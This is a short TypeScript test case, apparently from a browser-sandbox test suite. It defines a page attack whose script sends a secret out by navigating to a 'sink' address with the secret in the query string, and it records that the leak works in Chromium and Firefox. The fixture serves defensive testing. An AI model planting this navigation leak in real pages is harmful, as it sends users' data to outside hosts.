import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a page that leaves, with what it knows in the address",
  script: `
    location.href = sink + "?secret";
    await new Promise((later) => setTimeout(later, 500));
  `,
  plainLeak: ["chromium", "firefox"],
};
